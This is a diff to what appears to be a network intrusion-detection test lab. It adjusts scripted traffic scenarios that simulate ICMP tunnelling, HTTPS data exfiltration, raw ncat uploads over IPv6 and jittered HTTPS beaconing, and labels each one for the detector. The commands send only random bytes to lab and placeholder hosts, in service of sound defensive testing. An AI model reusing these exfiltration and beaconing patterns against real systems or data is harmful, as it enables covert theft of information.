@@ -59,12 +59,12 @@ def shell(lab):
     lab.outside.sysctl("net.ipv4.icmp_echo_ignore_all=0")
 
 
-@capture("icmptunnel_upload_nping", "a file sent in echo requests with nping: 26 with 900 other bytes each, mirrored by the outside host",
+@capture("icmptunnel_upload_nping", "a file sent in echo requests with nping: 30 with 480 other bytes each, mirrored by the outside host",
          expect=[(ICMP, by("pc3", "outside"))], allow=["icmp-flood", "data-exfiltration"])
 def nping(lab):
     yield
-    for n in range(26):
-        lab.pc3.run(f"nping --icmp -c 1 --data $(head -c 900 /dev/urandom | od -An -v -tx1 | tr -d ' \\n') {OUTSIDE} >/dev/null 2>&1 &")
+    for n in range(30):
+        lab.pc3.run(f"nping --icmp -c 1 --data $(head -c 480 /dev/urandom | od -An -v -tx1 | tr -d ' \\n') {OUTSIDE} >/dev/null 2>&1 &")
         time.sleep(0.03)
     time.sleep(1.5)
 
@@ -80,10 +80,10 @@ def six(lab):
     lab.outside.sysctl("net.ipv6.icmp.echo_ignore_all=0")
 
 
-@capture("quiet_ping_large", "ping -s 1400, 8 requests; ping with patterns; ping -s 8 without room for a time")
+@capture("quiet_ping_large", "ping -s 1400, 6 requests; ping with patterns; ping -s 8 without room for a time")
 def large(lab):
     yield
-    lab.pc1.run(f"ping -q -i 0.1 -s 1400 -c 8 {OUTSIDE}; ping -q -i 0.1 -s 600 -p deadbeef -c 15 {OUTSIDE}; "
+    lab.pc1.run(f"ping -q -i 0.1 -s 1400 -c 6 {OUTSIDE}; ping -q -i 0.1 -s 600 -p deadbeef -c 15 {OUTSIDE}; "
                 f"ping -q -i 0.1 -s 8 -c 10 {lab.server.v4}", timeout=20)
 
 
@@ -135,13 +135,13 @@ def post(lab):
     offloads(lab, "off")
 
 
-@capture("exfil_small_posts", "40 posts of 27 kB each by HTTPS, three a second, each a connection; segments of up to 64 kB",
+@capture("exfil_small_posts", "26 posts of 41 kB each by HTTPS, three a second, each a connection; segments of up to 64 kB",
          expect=[(EXFIL + BEACON, by("pc3"))], allow=["beaconing", "data-exfiltration"] + TLS, set=LESS, snap=60)
 def posts(lab):
     offloads(lab, "on")
     curl = https(lab, lab.outside)
     yield
-    lab.pc3.run(f"head -c 27000 /dev/urandom > {lab.dir}/piece; for n in $(seq 40); do "
+    lab.pc3.run(f"head -c 41000 /dev/urandom > {lab.dir}/piece; for n in $(seq 26); do "
                 f"{curl} --data-binary @{lab.dir}/piece https://www.example.com/api/v2/sync; sleep 0.25; done", timeout=90)
     yield
     offloads(lab, "off")
@@ -150,9 +150,12 @@ def posts(lab):
 @capture("exfil_raw_tcp_ipv6", "1.05 MB by ncat over IPv6 to a host outside",
          expect=[(EXFIL, by("pi"))], allow=["traffic-spike"], set=LESS, snap=60)
 def six_upload(lab):
+    lab.outside.run("ethtool -K eth0 gro on")  # fewer acknowledgements
     lab.outside.start("exec ncat -6 -l 4444 --recv-only > /dev/null", wait=0.4)
     yield
     lab.pi.run("head -c 1050000 /dev/urandom | timeout 10 ncat -6 --send-only 2001:db8:ffff::10 4444", timeout=15)
+    yield
+    lab.outside.run("ethtool -K eth0 gro off")
 
 
 @capture("exfil_scp", "scp copies 1.3 MB to a host outside; segments of 64 kB",
@@ -199,12 +202,12 @@ def photo(lab):
 # --- beacons
 
 
-@capture("beacon_https_jitter", "an HTTPS request every 2 s, a fifth more or less, 22 times",
+@capture("beacon_https_jitter", "an HTTPS request every 2 s, a fifth more or less, 18 times",
          expect=[(BEACON, by("pc1"))], allow=TLS, set=SOON, snap=300)
 def jitter(lab):
     curl = https(lab, lab.outside)
     yield
-    lab.pc1.run(f"for n in $(seq 22); do {curl} https://www.example.com/news; "
+    lab.pc1.run(f"for n in $(seq 18); do {curl} https://www.example.com/news; "
                 "sleep $(awk -v s=$RANDOM 'BEGIN { print 1.6 + 0.8 * s / 32768 }'); done", timeout=90)
 
 
